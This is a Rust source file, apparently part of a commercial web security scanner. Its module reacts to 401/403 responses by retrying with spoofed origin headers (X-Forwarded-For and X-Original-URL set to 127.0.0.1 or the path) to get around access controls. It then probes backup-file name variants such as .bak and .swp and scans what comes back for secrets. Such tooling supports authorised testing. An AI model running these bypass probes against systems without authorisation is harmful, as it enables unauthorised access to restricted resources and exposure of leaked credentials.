// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - Access Restriction Bypass
 * Forged-origin header retries and filename mutations for 401/403 hits
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary
 */

use reqwest::Method;
use std::sync::Arc;
use tracing::debug;

use crate::classifier;
use crate::http_client::ProbeClient;
use crate::secrets::detect_secrets;
use crate::types::{Finding, ResponseSignature, Task};

/// Retries access-denied paths with spoofed client-origin headers, then
/// hunts for backup artifacts via filename mutations of the original path.
pub struct BypassModule {
    client: Arc<ProbeClient>,
}

impl BypassModule {
    pub fn new(client: Arc<ProbeClient>) -> Self {
        Self { client }
    }

    /// Run the full bypass sequence for a 401/403 task.
    ///
    /// Emits a critical `GET+BYPASS` finding when the forged headers turn
    /// the denial into 200/302, followed by any interesting, non-baseline
    /// mutation hits. Mutations are never recursed into.
    pub async fn run(
        &self,
        task: &Task,
        user_agent: &str,
        signatures: &[ResponseSignature],
    ) -> Vec<Finding> {
        let mut findings = Vec::new();
        let url = task.url();
        let path = format!("/{}", task.path.trim_start_matches('/'));

        let headers = bypass_headers(&path);
        match self
            .client
            .probe_with_extra(&url, Method::GET, user_agent, &headers)
            .await
        {
            Ok(response) if matches!(response.status_code, 200 | 302) => {
                debug!("bypass succeeded for {} ({})", url, response.status_code);

                let mut finding = Finding::from_probe(
                    format!("{} [BYPASS]", url),
                    "GET+BYPASS",
                    user_agent,
                    &response,
                    bypass_curl_command(&url, user_agent, &path),
                );
                finding.critical = true;
                if response.status_code == 200 {
                    finding.set_secrets(detect_secrets(&response.body));
                }
                findings.push(finding);

                findings
                    .extend(self.probe_mutations(task, user_agent, signatures).await);
            }
            Ok(_) => {}
            Err(e) => debug!("bypass probe failed for {}: {}", url, e),
        }

        findings
    }

    /// Probe every filename mutation of the denied path as a plain GET.
    async fn probe_mutations(
        &self,
        task: &Task,
        user_agent: &str,
        signatures: &[ResponseSignature],
    ) -> Vec<Finding> {
        let mut findings = Vec::new();

        for mutation in generate_mutations(&task.path) {
            let mutated = Task::new(task.target.clone(), mutation, task.depth);
            let url = mutated.url();

            let response = match self.client.probe(&url, Method::GET, user_agent).await {
                Ok(response) => response,
                Err(e) => {
                    debug!("mutation probe failed for {}: {}", url, e);
                    continue;
                }
            };

            if !classifier::is_interesting(response.status_code)
                || classifier::matches_signature(&response.signature(), signatures)
            {
                continue;
            }

            let mut finding = Finding::from_probe(
                &url,
                "GET",
                user_agent,
                &response,
                self.client.curl_command(&url, "GET", user_agent),
            );
            if response.status_code == 200 {
                finding.set_secrets(detect_secrets(&response.body));
            }
            findings.push(finding);
        }

        findings
    }
}

/// The forged-origin header set. Applied after user headers so the forgery
/// always wins on collision.
pub fn bypass_headers(path: &str) -> Vec<(&'static str, String)> {
    vec![
        ("X-Forwarded-For", "127.0.0.1".to_string()),
        ("X-Original-URL", path.to_string()),
        ("X-Rewrite-URL", path.to_string()),
        ("X-Custom-IP-Authorization", "127.0.0.1".to_string()),
        ("Client-IP", "127.0.0.1".to_string()),
    ]
}

fn bypass_curl_command(url: &str, user_agent: &str, path: &str) -> String {
    format!(
        r#"curl -X GET "{}" -H "User-Agent: {}" -H "X-Forwarded-For: 127.0.0.1" -H "X-Original-URL: {}""#,
        url, user_agent, path
    )
}

/// Filename mutations that commonly expose backups and editor leftovers.
/// When the path carries an extension, a `<base>.bak.<ext>` variant is
/// added as well.
pub fn generate_mutations(path: &str) -> Vec<String> {
    let mut mutations = vec![
        format!("{}.bak", path),
        format!("{}.old", path),
        format!("{}.backup", path),
        format!("{}~", path),
        format!("{}.swp", path),
        format!(".{}.swp", path),
        format!("_{}", path),
        format!("{}.txt", path),
        format!("{}.orig", path),
    ];

    if let Some((base, ext)) = path.rsplit_once('.') {
        mutations.push(format!("{}.bak.{}", base, ext));
    }

    mutations
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_mutations_for_plain_path() {
        let mutations = generate_mutations("admin");
        assert_eq!(
            mutations,
            vec![
                "admin.bak",
                "admin.old",
                "admin.backup",
                "admin~",
                "admin.swp",
                ".admin.swp",
                "_admin",
                "admin.txt",
                "admin.orig",
            ]
        );
    }

    #[test]
    fn test_mutations_for_path_with_extension() {
        let mutations = generate_mutations("config.php");
        assert!(mutations.contains(&"config.bak.php".to_string()));
        assert_eq!(mutations.len(), 10);
    }

    #[test]
    fn test_bypass_headers_carry_path() {
        let headers = bypass_headers("/admin");
        assert!(headers.contains(&("X-Forwarded-For", "127.0.0.1".to_string())));
        assert!(headers.contains(&("X-Original-URL", "/admin".to_string())));
        assert!(headers.contains(&("X-Rewrite-URL", "/admin".to_string())));
        assert!(headers.contains(&("Client-IP", "127.0.0.1".to_string())));
        assert_eq!(headers.len(), 5);
    }
}
